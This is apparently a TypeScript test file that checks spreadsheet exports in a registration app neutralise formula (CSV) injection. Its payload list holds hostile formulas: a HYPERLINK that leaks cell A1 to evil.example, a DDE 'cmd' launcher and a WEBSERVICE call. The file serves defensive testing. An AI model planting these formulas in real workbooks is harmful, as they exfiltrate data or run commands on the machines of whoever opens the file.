import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Caller } from '../handler';
import { makeSecurityFixture, type SecurityFixture, startReport } from './fixture';

/**
 * Whatever a user typed reaches the manager's Excel as text, never as a formula: a cell that starts
 * with = + - @ must not run when the workbook is opened (formula injection, "CSV injection").
 */
const payloads = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', '=1+1', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1,2)', '=WEBSERVICE("http://evil.example")'];

async function cellsOf(f: SecurityFixture, file: string) {
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.readFile(file);
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
  return cells;
}

async function exported(f: SecurityFixture, caller: Caller): Promise<string> {
  let job = await startReport(f, caller);
  while (job.state === 'running') {
    await new Promise((resolve) => setTimeout(resolve, 10));
    job = await f.call(caller, 'report.progress', { jobId: job.jobId });
  }
  const raw = f.host.reportJobs.get(job.jobId, f.host.sessions.userId(caller.sessionToken())!);
  expect(job.state, String((raw.error as Error)?.stack ?? raw.error)).toBe('done');
  return f.host.reportJobs.get(job.jobId, f.host.sessions.userId(caller.sessionToken())!).file;
}

describe('exported workbooks', () => {
  let f: SecurityFixture;
  beforeAll(async () => {
    f = await makeSecurityFixture();
    for (const [i, text] of payloads.entries()) {
      const r = await f.call(f.li, 'registrations.submit', {
        fields: f.customer(70 + i, { customerName: `${text}有限公司`, contactPerson: text, sourceChannel: text, productLine: text, region: text.slice(0, 50) }),
      });
      await f.call(f.zhao, 'registrations.approve', { id: r.registration.id });
      await f.call(f.li, 'registrations.markLost', { id: r.registration.id, version: (await f.call(f.li, 'registrations.get', { id: r.registration.id })).version, reason: '其他', comment: text });
    }
  });
  afterAll(async () => {
    await f?.close();
  });

  it('hold what users typed as text, never as formulas (the funnel report)', { timeout: 60_000 }, async () => {
    const cells = await cellsOf(f, await exported(f, f.li));
    const typed = cells.filter((c) => typeof c.value === 'string' && payloads.some((p) => (c.value as string).includes(p.slice(0, 8))));
    expect(typed.length).toBeGreaterThanOrEqual(payloads.length * 2);
    for (const cell of typed) {
      expect(cell.type, `${cell.address} ${String(cell.value)}`).toBe(ExcelJS.ValueType.String);
      expect(cell.formula).toBeUndefined();
    }
  });

  it('hold the imported file’s cells as text in the error report', async () => {
    const csv = `客户名称,联系人,联系方式\n${payloads.map((p) => `"${p.replace(/"/g, '""')}","${p.replace(/"/g, '""')}",not-a-phone`).join('\n')}\n`;
    const file = { name: '客户.csv', data: Buffer.from(csv, 'utf8').toString('base64') };
    const report = await f.call(f.zhao, 'import.errorReport', {
      file,
      rows: payloads.map((_, i) => ({ row: i + 2, status: 'invalid' as const, errors: [{ key: 'v.required', message: '=1+1' }] })),
    });
    const workbook = new ExcelJS.Workbook();
    await workbook.xlsx.load(Buffer.from(report.data, 'base64') as unknown as ArrayBuffer);
    let seen = 0;
    workbook.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
          if (typeof cell.value === 'string' && /^[=+\-@]/.test(cell.value)) seen++;
        }),
      ),
    );
    expect(seen).toBeGreaterThanOrEqual(payloads.length);
  });
});
